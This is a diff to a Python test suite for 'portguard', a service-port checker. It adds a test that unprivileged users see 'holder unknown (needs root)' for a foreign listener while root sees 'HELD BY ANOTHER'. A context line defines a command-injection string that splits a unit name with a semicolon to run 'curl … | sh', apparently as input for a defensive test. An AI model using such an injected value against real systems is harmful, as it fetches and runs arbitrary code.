@@ -15,7 +15,10 @@ import time
 from pathlib import Path
 
 from support.cases import Case, config
-from support.sandbox import LISTENER, REPO
+from support.sandbox import LISTENER, PYTHON, REPO
+from test_faults_identity import shared_copy
+from test_faults_limits import CAPLESS
+from test_faults_stop import NOBODY as NOBODY_SETPRIV
 
 INJECTION = "machine-a;curl -s x|sh;#.scope"
 NOBODY = 65534
@@ -186,3 +189,35 @@ def test_install_refuses_a_portguard_that_others_can_change_and_changes_nothing(
     assert sb.portguard("install", unit).returncode == 0
     assert "preflight" in sb.unit_property(unit, "ExecStartPre")
     assert sb.portguard("uninstall", unit).returncode == 0
+
+
+def test_status_as_a_user_who_cannot_read_the_holder_never_calls_the_service_another(
+        case: Case) -> None:
+    """Without the rights to read another user's fds, the service's own listener is the
+    service's (the kernel says its cgroup made the socket), and a holder nobody can name
+    is "holder unknown (needs root)", never "held by another"."""
+    sb = case.sb
+    own_port, other_port = case.port(), case.port()
+    argv = shared_copy(sb, case.uid)
+    unit = f"own-{case.uid}.service"
+    sb.write_unit(unit, f"[Service]\nUser=nobody\nExecStart={' '.join(argv)} --port "
+                        f"{own_port}\n")
+    case.units.append(unit)
+    case.start_listening(unit, own_port)
+    stranger = sb.spawn([*NOBODY_SETPRIV, *argv, "--port", str(other_port)],
+                        wait_exec=False)
+    case.pids.append(stranger)
+    case.wait_listening(other_port, stranger)
+    case.write_config(f"services:\n  {unit}:\n    ports: [\"{own_port}\", \"{other_port}\"]\n")
+    done = sb.run([*CAPLESS, PYTHON, "-m", "portguard", "--config", case.cfg, "status"],
+                  env={"PYTHONPATH": str(REPO)})
+    lines = done.stdout.splitlines()
+    assert f"  port {own_port}: in use by the service (its cgroup made the socket; root " \
+        "sees the process)" in lines, done.stdout + done.stderr
+    assert f"  port {other_port}: HELD, holder unknown (needs root)" in lines, done.stdout
+    assert "HELD BY ANOTHER" not in done.stdout
+    assert done.returncode == 1  # a port is held, by whom this user cannot see
+    # root sees both: its own listener, and a foreign process
+    done = sb.portguard("--config", case.cfg, "status")
+    assert f"  port {own_port}: in use by the service" in done.stdout.splitlines()
+    assert f"  port {other_port}: HELD BY ANOTHER" in done.stdout.splitlines()
